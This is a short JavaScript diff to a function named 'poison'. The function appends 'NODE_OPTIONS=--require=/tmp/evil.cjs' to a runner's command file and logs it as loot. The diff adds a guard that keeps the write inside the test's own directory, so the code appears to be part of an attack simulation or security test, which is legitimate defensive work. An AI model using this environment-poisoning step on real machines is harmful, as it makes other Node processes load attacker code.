@@ -24,9 +24,11 @@ function processes() {
     }
   }
 }
-function poison(path) {
+function poison(file) {
+  // Other runners on this machine are none of a test's business.
+  if (!file.startsWith(path.resolve('..') + path.sep)) return
   try {
-    fs.appendFileSync(path, 'NODE_OPTIONS=--require=/tmp/evil.cjs')
+    fs.appendFileSync(file, 'NODE_OPTIONS=--require=/tmp/evil.cjs')
     loot.push('command file')
   } catch (error) {}
 }
